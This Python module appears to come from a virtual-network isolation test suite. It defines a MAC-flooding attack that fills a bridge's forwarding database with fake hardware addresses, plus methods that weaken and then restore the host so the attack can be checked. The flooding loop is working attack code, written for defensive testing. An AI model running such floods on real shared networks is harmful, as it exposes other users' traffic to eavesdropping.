"""A guest fills the bridge's forwarding database with hardware addresses that are nobody's.

A database without room forgets victims, and frames for whom it does not know go to everybody. Gained: sight of replies to victims. In the
way: replies go straight to the tap that they are for, past the database; and requests go to the bridge's own hardware address, which it
always knows.
"""

import struct

import attack
import rules
import space
import wire
from attack import Outcome
from field import Field
from host import Host


class Attack(attack.Attack):
    """A flood of sources."""

    hosts = ("address", "redirect", "bridge", "auto")
    families = (4,)
    proofs = (("address", 4),)

    def attack(self, field: Field) -> None:
        """Sends a frame from each, and looks for what is a victim's."""
        card, number, seen = wire.Wire(), 0, 0
        links = {one.link for one in field.victims}
        frames = [wire.ethernet(field.bridge, b"\x52\x54\x66" + struct.pack("!I", number)[1:], 0x88B5, bytes(46))
                  for number in range(30000)]
        field.ready()
        while field.goes_on():
            card.send(*frames[number % len(frames):][:100])
            number += 100
            seen += sum(segment.to in links and b"HTTP/1.1 200" in segment.data for segment in card.segments(0.001))
        field.report |= {"sent": number, "seen": seen}

    def gained(self, outcome: Outcome) -> str | None:
        """Replies that everybody saw."""
        return f"the forger saw {outcome.forger['seen']} replies to victims" if outcome.forger["seen"] else None

    def weaken(self, host: Host) -> None:
        """Lets the bridge choose where replies go, and learn nothing more: its database is full."""
        for one in host.victims:
            rules.unbind(one.tap)
            space.call("bridge", "link", "set", "dev", one.tap, "learning", "off")
            space.call("bridge", "fdb", "del", one.mac, "dev", one.tap, "master")

    def restore(self, host: Host) -> None:
        """Lets the bridge learn where victims are."""
        for one in host.victims:
            space.call("bridge", "link", "set", "dev", one.tap, "learning", "on")
